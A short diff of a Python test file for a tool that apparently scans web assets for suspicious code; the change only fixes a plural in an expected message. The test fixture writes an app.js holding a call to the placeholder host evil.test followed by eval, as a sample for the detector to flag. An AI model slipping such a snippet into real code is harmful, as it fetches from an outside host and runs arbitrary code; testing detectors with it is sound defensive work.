@@ -156,7 +156,7 @@ def test_the_command_line(
     (tmp_path / "app.js").write_text("fetch('https://evil.test/v1');eval(x)")
     code, said, _ = watch("once", folder, "--json")
     assert (code, [one["severity"] for one in json.loads(said)["events"]]) == (1, ["medium"] * 2)
-    assert watch("once", folder) == (0, "nothing new in 1 assets\n", "")
+    assert watch("once", folder) == (0, "nothing new in 1 asset\n", "")
     assert "open events 1, 2" in watch("list", folder)[1]
     said = watch("history", folder, "--html", str(page), "--language", "zh")[1]
     assert "power eval is new" in said
